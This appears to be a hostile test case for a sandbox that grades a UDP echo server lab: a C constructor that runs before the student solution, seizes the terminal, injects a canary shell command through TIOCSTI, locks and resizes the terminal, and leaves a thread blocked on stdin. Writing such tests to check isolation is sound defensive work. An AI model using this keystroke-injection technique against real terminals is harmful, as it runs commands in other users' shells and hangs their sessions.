/* hostile: Makes stdout its terminal, puts words into it as if typed, locks
       it, changes its size, and has a thread wait at it for ever.
   lab: 13-udp-echo-server
   earns: all
   verdict: -
   must-not: anything typed at a terminal of the machine
*/
#include <pthread.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <unistd.h>

static void attack(void) __attribute__((constructor));

static void *wait_at_it(void *arg)
{
    while (getc(stdin) != EOF)
        continue;
    return arg;
}

static void attack(void)
{
    static const char typed[] = "echo PWNED >/tmp/socket-labs-canary\n";
    struct winsize huge = { 65535, 65535, 65535, 65535 };
    pthread_t thread;
    int on = 1;

    for (int fd = 0; fd < 3; fd++) {
        ioctl(fd, TIOCSCTTY, 1);
        for (const char *p = typed; *p != '\0'; p++)
            ioctl(fd, TIOCSTI, p);
        ioctl(fd, TIOCEXCL);
        ioctl(fd, TIOCSWINSZ, &huge);
        ioctl(fd, TIOCPKT, &on);
        ioctl(fd, TIOCSETD, &on);
    }
    pthread_create(&thread, NULL, wait_at_it, NULL);
}

#include "../../../../../solutions/13-udp-echo-server/udp_echo_server.c"
